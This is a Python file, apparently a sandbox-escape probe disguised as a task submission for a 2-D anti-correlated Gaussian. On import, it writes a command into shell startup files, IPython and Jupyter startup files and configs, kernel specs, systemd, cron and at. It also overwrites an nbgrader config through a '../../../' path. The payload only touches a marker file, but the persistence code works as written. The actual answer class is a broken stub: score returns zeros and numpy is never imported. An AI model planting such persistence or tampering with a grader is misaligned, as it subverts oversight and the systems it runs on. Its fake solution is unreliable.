# task = "score"
# family = "persistence"
# why = "Puts itself where the next shell, Python, notebook, kernel or clock would start it."
# then = "Every such place is gone with the sandbox."


import json
import os
import subprocess
import sys

run = "touch /tmp/hostile-trace-installs_itself"
python = f"import os\nos.system({run!r})\n"
home = os.path.expanduser("~")
kernel = json.dumps({"argv": ["sh", "-c", run], "display_name": "Python 3 (ipykernel)", "language": "python"})
places = {
    f"{home}/hostile-trace-installs_itself": run,
    f"{home}/.bashrc": run,
    f"{home}/.profile": run,
    f"{home}/.pythonrc.py": python,
    f"{home}/.ipython/profile_default/startup/00-first.py": python,
    f"{home}/.jupyter/jupyter_config.py": python,
    f"{home}/.jupyter/nbgrader_config.py": python,
    f"{home}/.local/share/jupyter/kernels/python3/kernel.json": kernel,
    f"{home}/.config/systemd/user/first.service": f"[Service]\nExecStart=/bin/sh -c '{run}'\n",
    f"{sys.prefix}/share/jupyter/kernels/python3/kernel.json": kernel,
    "/etc/cron.d/first": f"* * * * * root {run}\n",
    "../../../nbgrader_config.py": python,
}
for path, text in places.items():
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            file.write(text)
    except OSError:
        pass
for command in (["crontab", "-"], ["at", "now"], ["systemd-run", "--user", "sh", "-c", run]):
    try:
        subprocess.run(command, input=f"* * * * * {run}\n".encode(), capture_output=True, timeout=5)
    except (OSError, subprocess.TimeoutExpired):
        pass


class AntiCorrelatedGaussian:
    def score(self, x):
        return np.zeros_like(x)

    def sample(self, n):
        return np.random.multivariate_normal(np.zeros(2), [[1.0, -0.7], [-0.7, 1.0]], size=n)
